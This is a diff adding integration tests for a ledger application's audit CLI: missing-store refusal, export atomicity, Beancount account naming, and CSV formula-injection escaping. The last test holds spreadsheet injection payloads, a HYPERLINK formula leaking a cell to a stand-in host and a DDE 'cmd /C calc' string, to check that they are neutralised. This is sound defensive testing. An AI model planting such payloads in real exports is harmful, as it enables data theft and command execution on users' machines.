@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import errno
 import json
 import subprocess
 import sys
@@ -13,14 +14,19 @@ from pathlib import Path
 
 import pytest
 from beancount import loader
-from beancount.core.data import Transaction
+from beancount.core.account import is_valid as is_valid_account
+from beancount.core.data import Open, Transaction
 from sqlalchemy import text
 from typer.testing import CliRunner
 
 from gateway.cli import app as cli
 from gateway.runtime import Runtime
+from services.audit import exports
+from services.audit.exports import beancount_account
+from services.common.errors import ValidationError
 from services.common.settings import Settings, get_settings
-from services.ledger.domain import Posting, Side
+from services.ledger.domain import AccountType, Posting, Side
+from services.ledger.domain.accounts import check_account_code
 from tests.integration.test_audit_chain import events_sql, post
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -131,3 +137,222 @@ def test_verify_head_publish_replay_and_export(cli_env: Settings, tmp_path: Path
     failed = runner.invoke(cli, ["audit", "verify"])
     assert failed.exit_code == 1
     assert f"FAILED at position {victim}" in failed.output
+
+
+def _missing_store(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Point the CLI at an address that holds no store; returns a SQLite file path that
+    must stay absent (unused on PostgreSQL)."""
+    missing = tmp_path / "typo" / "nothing.db"
+    if settings.is_postgres:
+        monkeypatch.setenv("COOP_DATABASE_URL", settings.database_url)
+        monkeypatch.setenv("COOP_DATABASE_SCHEMA", f"{settings.database_schema}_typo")
+    else:
+        monkeypatch.setenv("COOP_DATABASE_URL", f"sqlite:///{missing}")
+        monkeypatch.setenv("COOP_DATABASE_SCHEMA", "")
+    get_settings.cache_clear()
+    return missing
+
+
+def _schemas_like(settings: Settings, pattern: str) -> set[str]:
+    import psycopg
+
+    from tests.conftest import postgres_url
+
+    with psycopg.connect(postgres_url()) as conn:
+        rows = conn.execute(
+            "SELECT nspname FROM pg_namespace WHERE nspname LIKE %s", (pattern,)
+        ).fetchall()
+    return {str(r[0]) for r in rows}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["audit", "head"], ["audit", "verify"], ["audit", "replay"], ["audit", "export", "EXPORT"]],
+)
+def test_audit_commands_refuse_an_address_that_holds_no_store(
+    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]
+) -> None:
+    missing = _missing_store(settings, tmp_path, monkeypatch)
+    export_dir = tmp_path / "export"
+    args = [str(export_dir) if a == "EXPORT" else a for a in command]
+    try:
+        result = CliRunner().invoke(cli, args)
+    finally:
+        get_settings.cache_clear()
+    assert result.exit_code == 2, result.output
+    assert isinstance(result.exception, SystemExit)  # no traceback
+    [line] = result.output.strip().splitlines()
+    assert line.startswith("No store at ")
+    assert "coop db init" in line
+    assert not missing.exists()
+    assert not missing.parent.exists()
+    assert not export_dir.exists()
+    if settings.is_postgres:
+        assert _schemas_like(settings, f"{settings.database_schema}_typo") == set()
+
+
+def test_an_empty_schema_or_file_is_no_store(
+    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An existing but empty schema (or an empty SQLite file) is not a store either."""
+    if settings.is_postgres:
+        monkeypatch.setenv("COOP_DATABASE_URL", settings.database_url)
+        monkeypatch.setenv("COOP_DATABASE_SCHEMA", settings.database_schema)  # made, empty
+    else:
+        empty = tmp_path / "empty.db"
+        empty.write_bytes(b"")
+        monkeypatch.setenv("COOP_DATABASE_URL", f"sqlite:///{empty}")
+    get_settings.cache_clear()
+    try:
+        result = CliRunner().invoke(cli, ["audit", "head"])
+    finally:
+        get_settings.cache_clear()
+    assert result.exit_code == 2, result.output
+    assert result.output.startswith("No store at ")
+    if not settings.is_postgres:
+        assert (tmp_path / "empty.db").read_bytes() == b""
+
+
+def _open(runtime: Runtime, code: str, name: str) -> None:
+    runtime.ledger.open_account(
+        key=f"open-{code}",
+        actor="person:test",
+        code=code,
+        name=name,
+        account_type=AccountType.REVENUE,
+    )
+
+
+def test_export_keeps_codes_apart_that_differ_by_a_dot_or_a_dash(
+    cli_env: Settings, tmp_path: Path
+) -> None:
+    runtime = Runtime(cli_env)
+    try:
+        _open(runtime, "4100.1", "Dotted")
+        _open(runtime, "4100-1", "Dashed")
+        for n, code in enumerate(("4100.1", "4100-1")):
+            runtime.ledger.post_entry(
+                key=f"sub-{n}",
+                actor="person:test",
+                effective_date=date(2025, 3, 1),
+                description=f"sale on {code}",
+                postings=[
+                    Posting("1000", Side.DEBIT, 100 + n),
+                    Posting(code, Side.CREDIT, 100 + n),
+                ],
+            )
+        runtime.projector.run_until_caught_up()
+    finally:
+        runtime.close_sync()
+    out = tmp_path / "export"
+    result = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
+    assert result.exit_code == 0, result.output
+    entries, errors, _options = loader.load_file(str(out / "journal.beancount"))
+    assert errors == []
+    opened = {e.meta["code"]: e.account for e in entries if isinstance(e, Open)}
+    assert opened["4100.1"] != opened["4100-1"]
+    amounts = {
+        p.account: p.units.number
+        for e in entries
+        if isinstance(e, Transaction)
+        for p in e.postings
+        if p.units is not None and p.account.startswith("Income:4100")
+    }
+    assert amounts == {opened["4100.1"]: Decimal("-1.00"), opened["4100-1"]: Decimal("-1.01")}
+    assert sorted(p.name for p in out.iterdir()) == [
+        "events.jsonl",
+        "journal.beancount",
+        "journal.csv",
+        "trial-balance-2025-12-31.csv",
+    ]
+
+
+def test_beancount_names_are_one_to_one_and_valid_for_every_accepted_code() -> None:
+    """Every code of up to five characters over digits, capitals, '.' and '-' that the
+    ledger accepts gets its own valid Beancount name."""
+    alphabet = "09AZ.-"
+    codes = [""]
+    accepted: list[str] = []
+    for _ in range(5):
+        codes = [c + x for c in codes for x in alphabet]
+        for code in codes:
+            try:
+                check_account_code(code, field="code", max_length=16)
+            except ValidationError:
+                continue
+            accepted.append(code)
+    assert {"0.-", "0-.", "0..", "0--", "A.", "A-"} <= set(accepted)
+    names = {beancount_account(code, AccountType.REVENUE) for code in accepted}
+    assert len(names) == len(accepted)
+    assert all(is_valid_account(name) for name in names)
+
+
+def test_a_failed_export_leaves_the_directory_as_it_was(
+    cli_env: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    _populate(cli_env)
+    out = tmp_path / "export"
+    out.mkdir()
+    (out / "journal.csv").write_text("an earlier export\n")
+
+    def disk_full(*_args: object, **_kwargs: object) -> int:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(exports, "export_journal_csv", disk_full)
+    result = CliRunner().invoke(cli, ["audit", "export", str(out)])
+    assert result.exit_code == 1, result.output
+    assert isinstance(result.exception, SystemExit)
+    assert "No space left on device" in result.output
+    # Nothing new, nothing half-written, the earlier file untouched, no staging left.
+    assert [p.name for p in out.iterdir()] == ["journal.csv"]
+    assert (out / "journal.csv").read_text() == "an earlier export\n"
+
+
+def test_text_cells_cannot_become_spreadsheet_formulas(cli_env: Settings, tmp_path: Path) -> None:
+    runtime = Runtime(cli_env)
+    descriptions = [
+        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "'quoted",
+        "plain",
+    ]
+    try:
+        _open(runtime, "4900", "=cmd|' /C calc'!A0")
+        for n, description in enumerate(descriptions):
+            runtime.ledger.post_entry(
+                key=f"formula-{n}",
+                actor="person:test",
+                effective_date=date(2025, 4, 1),
+                description=description,
+                postings=[Posting("1000", Side.DEBIT, 250), Posting("4900", Side.CREDIT, 250)],
+            )
+        runtime.projector.run_until_caught_up()
+    finally:
+        runtime.close_sync()
+    out = tmp_path / "export"
+    result = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
+    assert result.exit_code == 0, result.output
+    with (out / "journal.csv").open(newline="") as f:
+        journal = list(csv.DictReader(f))
+    shown = [row["description"] for row in journal if row["line_no"] == "1"]
+    assert shown == [
+        '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "''quoted",
+        "plain",
+    ]
+    # Amounts stay numbers.
+    assert {row["debit"] for row in journal} == {"2.50", "0.00"}
+    with (out / "trial-balance-2025-12-31.csv").open(newline="") as f:
+        trial = {row["account"]: row for row in csv.DictReader(f)}
+    assert trial["4900"]["name"] == "'=cmd|' /C calc'!A0"
+    assert trial["4900"]["credit"] == "15.00"
+    assert trial["TOTAL"]["debit"] == trial["TOTAL"]["credit"] == "15.00"
+    # The ledger trims a description; a tab or CR that gets through is neutralised.
+    assert exports.spreadsheet_text("\tx") == "'\tx"
+    assert exports.spreadsheet_text("\rx") == "'\rx"
+    assert exports.spreadsheet_text(None) == ""
